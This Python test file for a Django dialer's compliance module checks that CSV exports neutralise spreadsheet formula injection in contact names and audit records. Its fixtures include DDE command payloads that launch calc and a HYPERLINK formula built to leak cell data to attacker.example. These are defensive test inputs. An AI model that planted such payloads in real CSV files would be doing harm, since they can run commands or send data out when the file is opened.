"""Every CSV we hand out is safe to open in a spreadsheet: a cell that a spreadsheet would run as
a formula is neutralised, numbers (E.164 included) are left alone, NUL never reaches the file."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from campaigns.models import Contact
from compliance.audit import audit_decision
from compliance.models import AuditEntry
from compliance.services import decide
from tests.helpers.factories import make_campaign, make_contact

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://x.example")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_preflight_csv_neutralises_formulas_in_contact_names(admin_client: Client) -> None:
    campaign = make_campaign(purpose="service_explicit")  # nobody has consent: all blocked
    for i, name in enumerate(HOSTILE):
        make_contact(campaign=campaign, number=f"+9198765000{i:02d}", name=name)

    response = admin_client.get(
        reverse("admin:campaigns_campaign_preflight_report", args=[campaign.pk])
    )
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]

    names = {row[1] for row in _rows(body)[1:]}
    assert names == {"'" + name for name in HOSTILE}
    numbers = {row[0] for row in _rows(body)[1:]}
    assert numbers == set(Contact.objects.values_list("number", flat=True))  # "+91..." as is


def test_the_audit_csv_export_neutralises_formula_cells(tmp_path: Any) -> None:
    for text in HOSTILE:  # e.g. `dial '=HYPERLINK(...)'`: a decision records what was given
        decision = decide(number=text, purpose="transactional", sender_dlt_id="1101X",
                          sector="other", cli="+911600123456", at=timezone.now())  # fmt: skip
        assert decision.reasons == ("invalid_number",)
        audit_decision(decision=decision, attempt_id=None, campaign_id=None, sender_dlt_id="1101X")
    path = tmp_path / "audit.csv"
    call_command("export_audit", "--format", "csv", "--out", str(path), stderr=io.StringIO())

    rows = _rows(path.open(newline="").read())
    numbers = [row[rows[0].index("number")] for row in rows[1:]]
    assert numbers == ["'" + text for text in HOSTILE]
    assert AuditEntry.objects.count() == len(HOSTILE)


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("+919876543210", "+919876543210"),
        ("-12.5", "-12.5"),
        ("1e5", "1e5"),
        ("plain", "plain"),
        ("", ""),
        ("=1", "'=1"),
        ("-1+1", "'-1+1"),
        ("a\x00b", "a\ufffdb"),
    ],
)
def test_cells(cell: str, expected: str) -> None:
    from dialer.csv_out import csv_cell

    assert csv_cell(cell) == expected


def test_a_long_invalid_number_is_audited_not_a_crash() -> None:
    text = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
    decision = decide(number=text, purpose="transactional", sender_dlt_id="1101X",
                      sector="other", cli="+911600123456", at=timezone.now())  # fmt: skip
    entry = audit_decision(decision=decision, attempt_id=None, campaign_id=None,
                           sender_dlt_id="1101X")  # fmt: skip
    assert entry.number == text[:32] and entry.reasons == ["invalid_number"]
